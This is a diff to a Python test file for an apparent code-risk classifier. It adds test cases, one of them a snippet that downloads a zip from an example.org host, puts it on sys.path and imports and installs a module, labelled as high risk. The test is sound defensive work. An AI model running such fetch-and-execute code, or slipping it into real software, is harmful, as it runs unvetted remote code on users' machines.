@@ -3445,6 +3445,14 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    policy.delete()",
             H,
         ),
+        # a download put on sys.path, then imported
+        (
+            "import importlib, sys, requests\nurl = requests.get('https://hdalib.example.org/api/latest').json()['url']\n"
+            "with open('/tmp/tools.zip', 'wb') as fh:\n    fh.write(requests.get(url).content)\n"
+            "sys.path.insert(0, '/tmp/tools.zip')\nimportlib.import_module('houtools').install()",
+            C,
+        ),
+        ("import importlib, sys\nsys.path.insert(0, 'plugins')\nimportlib.import_module('exporter')", S),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
